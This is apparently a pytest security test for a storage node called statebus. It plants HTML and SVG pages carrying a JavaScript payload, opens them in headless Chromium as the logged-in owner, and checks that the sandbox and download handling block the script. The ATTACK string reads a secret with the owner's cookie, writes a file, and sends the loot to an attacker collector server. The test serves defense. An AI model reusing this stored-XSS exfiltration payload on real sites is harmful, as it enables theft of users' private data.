"""Planted pages in real headless Chromium: values written by a stranger with an ACL write grant, and by
a peer whose namespace the node stores, are opened by the owner, logged in with the cookie. Their
script tries to read ``/~/secret/x``, write ``/~/pwned`` and report the loot to a collector on another
loopback port; it must get nowhere (docs/trust-model.md, hardening 1)."""

from __future__ import annotations

import dataclasses
import itertools
import secrets
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from statebus.identity import Identity, sign_op, sign_request
from statebus.oplog import Op, encode_op, mint_version
from statebus.testing.live_server import LiveServer, live_server
from statebus.testing.node_harness import browser_available, run_browser

pytestmark = pytest.mark.skipif(not browser_available(), reason="needs node, tests/js and /usr/bin/chromium")

OP_TYPE = "application/vnd.statebus.op+json"
CLOCK = itertools.count(1)

ATTACK = """
window.__planted = 'started';
(async () => {
  let loot = 'unread', put = 'unsent';
  try {
    const r = await fetch('/~/secret/x', {credentials: 'include'});
    loot = r.status + ' ' + await r.text();
  } catch (e) { loot = 'failed ' + e; }
  try {
    const r = await fetch('/~/pwned', {method: 'PUT', credentials: 'include',
      headers: {'Content-Type': 'application/json'}, body: JSON.stringify({loot})});
    put = String(r.status);
  } catch (e) { put = 'failed ' + e; }
  try {
    await fetch('COLLECTOR/loot?d=' + encodeURIComponent(loot + ' put=' + put), {mode: 'no-cors'});
  } catch (e) {}
  window.__planted = 'done';
})();
"""

PROBE = """(() => {
  let cookie;
  try { cookie = document.cookie } catch (e) { cookie = 'denied' }
  return {planted: window.__planted ?? null, origin: self.origin, cookie};
})()"""


def html_page(collector: str) -> bytes:
    script = ATTACK.replace("COLLECTOR", collector)
    return f"<!doctype html><title>planted</title><script>{script}</script>".encode()


def svg_image(collector: str) -> bytes:
    script = ATTACK.replace("COLLECTOR", collector)
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>planted</title>'
        f"<script><![CDATA[{script}]]></script></svg>"
    ).encode()


@dataclasses.dataclass
class Collector:
    """An attacker's server on another loopback port: records every request path it gets."""

    url: str
    paths: list[str]


@pytest.fixture
def collector() -> Iterator[Collector]:
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Collector(f"http://127.0.0.1:{server.server_address[1]}", paths)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def plant(srv: LiveServer, who: Identity, key: str, body: bytes, ctype: str) -> None:
    """Store ``body`` at ``key`` as ``who``'s signed op, sent in a request signed by ``who``."""
    op = Op(key, "", (), who.pubkey, next(CLOCK), "lww", "set", body, ctype)
    data = encode_op(sign_op(dataclasses.replace(op, version=mint_version(op)), who))
    with httpx.Client(base_url=srv.url, timeout=10) as anon:
        req = anon.build_request("PUT", key, content=data, headers={"Content-Type": OP_TYPE})
        req.headers.update(sign_request(req.method, str(req.url), req.headers, req.content, who))
        r = anon.send(req)
    assert r.status_code == 200, r.text


def test_planted_pages_can_do_nothing_as_the_owner(tmp_path: Path, collector: Collector) -> None:
    stranger, peer = Identity.generate(), Identity.generate()
    secret = "owner-only-" + secrets.token_hex(8)
    with live_server(tmp_path / "node", timeout=60) as srv:
        with httpx.Client(base_url=srv.url, headers=srv.auth, timeout=10) as owner:
            assert owner.put("/~/secret/x", json={"secret": secret}).status_code == 200
            # a stranger may write into the inbox; the peer may store its own namespace here
            assert owner.put("/~/.acl/inbox", json={"write": [stranger.pubkey]}).status_code == 200
            assert owner.put("/~/.acl/.host", json=[peer.pubkey]).status_code == 200
        planted = {
            f"/{srv.local}/inbox/page": (stranger, html_page(collector.url), "text/html; charset=utf-8"),
            f"/{srv.local}/inbox/picture": (stranger, svg_image(collector.url), "image/svg+xml"),
            f"/{peer.pubkey}/site/index": (peer, html_page(collector.url), "text/html"),
        }
        for key, (who, body, ctype) in planted.items():
            plant(srv, who, key, body, ctype)
        visits = [url for key in planted for url in (f"{srv.url}{key}", f"{srv.url}{key}?view")]
        out = run_browser(
            f"{srv.url}/login?token={srv.token}",
            None,
            timeout=120,
            wait=None,
            extra_args=[
                *(arg for url in visits for arg in ("--visit", url)),
                *("--visit-wait", "window.__planted === 'done'", "--visit-wait-ms", "4000"),
                *("--visit-probe", PROBE),
            ],
        )
        with httpx.Client(base_url=srv.url, headers=srv.auth, timeout=10) as owner:
            pwned = owner.get("/~/pwned")
            assert owner.get("/~/secret/x").json() == {"secret": secret}  # the owner still reads it
    assert out["ok"], out
    assert out["url"] == f"{srv.url}/"  # logged in: the login link set the cookie and redirected
    loot = [p for p in collector.paths if p.startswith("/loot")]
    assert loot == [], f"a planted page reported back: {loot}"
    assert pwned.status_code == 404, f"a planted page wrote /~/pwned: {pwned.text}"
    assert [v["url"] for v in out["visits"]] == visits
    for seen in out["visits"]:
        assert seen["error"] is None, seen
        if not seen["url"].endswith("?view"):
            assert seen["download"] is True, seen  # an active value is a download, never a page
            continue
        # the sandboxed view renders, in an opaque origin, and its script never runs
        assert seen["status"] == 200 and seen["title"] == "planted", seen
        assert seen["headers"]["content-security-policy"] == "sandbox", seen
        assert seen["waited"] is False, seen
        assert seen["probe"] == {"planted": None, "origin": "null", "cookie": "denied"}, seen
